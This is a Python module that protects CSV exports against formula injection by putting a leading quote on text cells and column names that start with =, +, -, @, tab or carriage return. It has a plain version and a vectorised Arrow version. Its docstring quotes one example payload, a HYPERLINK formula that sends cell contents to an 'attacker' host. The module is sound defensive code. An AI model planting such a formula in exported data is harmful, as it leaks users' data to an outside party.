"""Files people open in spreadsheets: CSV cells that cannot run as formulas.

A spreadsheet treats a cell starting with ``=``, ``+``, ``-`` or ``@`` (and, in some, a tab or
carriage return) as a formula: ``=HYPERLINK("http://attacker/?"&A1, "open")`` in a username, a
subject or a column name would run in the auditor's spreadsheet. Such text cells get a leading
``'`` (OWASP's advice), which spreadsheets show as text; numbers are written as they are.
"""

from __future__ import annotations

from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: Any) -> Any:
    """``value``, with a ``'`` in front when it is text a spreadsheet would read as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value



def csv_safe_schema(schema: Any) -> Any:
    """An Arrow schema whose column names are escaped as cells are (the CSV header is a row too)."""
    import pyarrow as pa

    return pa.schema([f.with_name(str(csv_cell(f.name))) for f in schema], metadata=schema.metadata)


def csv_safe_table(table: Any) -> Any:
    """An Arrow table as an Arrow CSV writer should write it: every text cell a spreadsheet would read as a
    formula gets a leading ``'`` (vectorised; numbers, booleans and times are written as they are), and the
    column names likewise. Every CSV LeanOps writes with Arrow (prediction exports, batch scoring output)
    goes through here; the audit export through ``csv_cell``."""
    import pyarrow as pa
    import pyarrow.compute as pc

    columns = []
    for column in table.columns:
        if pa.types.is_string(column.type) or pa.types.is_large_string(column.type):
            risky = pc.fill_null(pc.match_substring_regex(column, r"^[=+\-@\t\r]"), False)
            quoted = pc.binary_join_element_wise(pa.scalar("'", column.type), column, pa.scalar("", column.type))
            column = pc.if_else(risky, quoted, column)
        columns.append(column)
    return pa.Table.from_arrays(columns, schema=csv_safe_schema(table.schema))
